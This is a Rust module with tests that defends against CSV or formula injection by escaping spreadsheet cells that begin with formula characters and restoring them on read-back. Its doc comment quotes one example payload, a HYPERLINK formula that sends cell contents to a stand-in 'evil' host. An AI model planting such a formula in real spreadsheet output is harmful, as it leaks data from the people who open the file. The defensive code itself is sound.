//! Text written into spreadsheet cells (CSV, XLSX) that a spreadsheet
//! program must show as text and never evaluate.
//!
//! A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
//! return, which some programs skip before looking) is read as a formula by
//! Excel, LibreOffice and Google Sheets: a comment or a title such as
//! `=HYPERLINK("http://evil/?"&A1)` would run on the editor's machine
//! (OWASP, "CSV Injection"). Such a cell is written with a leading `'`,
//! which those programs take as "text" and do not show; [`from_cell`] takes
//! it off again when a file docket wrote comes back. Text that itself
//! begins with `'` gets one more, so that reading back is exact.

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell beginning this way gets (or got) a leading `'`.
fn needs_quote(text: &str) -> bool {
    text.starts_with(TRIGGERS) || text.starts_with('\'')
}

/// `text` as a cell that is shown, never evaluated.
pub fn to_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// A cell read back: the `'` that [`to_cell`] put in front is taken off;
/// any other text is as it was.
pub fn from_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_characters_are_quoted_and_read_back() {
        for text in [
            "=1+1", "+44 20", "-5", "@SUM(A1)", "\tx", "\r=x", "'=quoted", "'quoted'", "''",
        ] {
            let cell = to_cell(text);
            assert_eq!(cell, format!("'{text}"));
            assert_eq!(from_cell(&cell), text);
        }
    }

    #[test]
    fn other_text_is_untouched_both_ways() {
        for text in ["5.1", "Scope", "", "it's", "a=b", "1-2"] {
            assert_eq!(to_cell(text), text);
            assert_eq!(from_cell(text), text);
        }
        // A quote typed by hand before something harmless stays.
        assert_eq!(from_cell("'quoted'"), "'quoted'");
    }
}
